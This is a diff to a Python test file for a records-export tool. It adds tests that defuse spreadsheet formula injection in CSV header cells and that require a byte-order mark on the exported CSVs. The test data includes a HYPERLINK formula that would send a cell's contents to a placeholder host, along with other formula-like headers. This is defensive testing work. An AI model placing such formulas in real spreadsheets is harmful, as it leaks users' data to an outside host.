@@ -24,7 +24,7 @@ PACKAGE_FILES = {"records.csv", "manifest.csv", "closed_paper_catalogue.csv", "e
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8", newline="") as handle:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
         return list(csv.DictReader(handle))
 
 
@@ -274,3 +274,39 @@ def test_template_cells_are_exported_exactly_as_imported(workspace: Workspace, r
     assert [row[1] for row in cells] == [("Siobhán ", "s"), ("Zoë", "s")]
     assert [row[4] for row in cells] == [("\tTabbed", "s"), ("\rReturn", "s")]
     assert [row[5] for row in cells] == [("00123", "s"), ("0042 ", "s")]
+
+
+FORMULA_HEADERS = ['=HYPERLINK("http://x/?"&A2,"open")', "@Extra", "+Plus", "-Minus", "=1+1"]
+
+
+def test_template_headers_are_defused_and_reported(workspace: Workspace, run_cli: Callable[..., Result],
+                                                   tmp_path: Path) -> None:
+    """A header is a cell too: a live formula in the header row must not reach records.csv or the workbook."""
+    template = tmp_path / "headers.csv"
+    with template.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([["Case Reference", *FORMULA_HEADERS, "Forename"],
+                                      ["SGD-2024-0412", "a", "b", "c", "d", "e", "Zoë"]])
+    imported = run_cli("records", "import", str(template))
+    assert imported.exit_code == 0, imported.output
+    reported = [line for line in imported.output.splitlines() if line.split()[:2] == ["1", "formula_like_header"]]
+    assert len(reported) == len(FORMULA_HEADERS)
+    export(run_cli, tmp_path / "pkg")
+    with (tmp_path / "pkg" / "records.csv").open(encoding="utf-8-sig", newline="") as handle:
+        header = next(csv.reader(handle))
+    assert header == ["Case Reference", *("'" + h for h in FORMULA_HEADERS), "Forename", "scanned_documents", "attachments"]
+    sheet = load_workbook(tmp_path / "pkg" / "migration.xlsx")["records"]
+    cells = [(cell.value, cell.data_type) for cell in sheet[1]]
+    assert cells[1:1 + len(FORMULA_HEADERS)] == [(h, "s") for h in FORMULA_HEADERS]
+    assert all(data_type != "f" for _, data_type in cells)
+
+
+def test_every_csv_starts_with_a_byte_order_mark(state: dict[str, int], run_cli: Callable[..., Result],
+                                                 tmp_path: Path) -> None:
+    """UK Excel reads UTF-8 only after a BOM: without it Zoë shows as ZoÃ«."""
+    export(run_cli, tmp_path / "pkg")
+    tables = sorted((tmp_path / "pkg").glob("*.csv"))
+    assert len(tables) == 4
+    for table in tables:
+        data = table.read_bytes()
+        assert data.startswith(b"\xef\xbb\xbf") and not data[3:].startswith(b"\xef\xbb\xbf"), table.name
+    assert "Zoë" in (tmp_path / "pkg" / "records.csv").read_bytes()[3:].decode("utf-8")
